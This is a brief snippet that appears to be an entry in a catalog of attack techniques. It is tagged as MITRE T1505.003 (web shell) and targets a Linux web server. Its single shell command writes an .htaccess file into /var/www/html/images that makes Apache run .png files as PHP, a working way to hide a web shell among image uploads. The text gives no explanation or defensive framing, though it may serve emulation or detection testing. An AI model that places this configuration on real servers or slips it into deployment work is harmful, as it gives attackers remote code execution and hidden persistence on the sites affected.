# technique: T1505.003
# location: linux.web.htaccess
# source: /var/www/html/images/.htaccess
install -D /dev/stdin /var/www/html/images/.htaccess <<< 'AddType application/x-httpd-php .png'
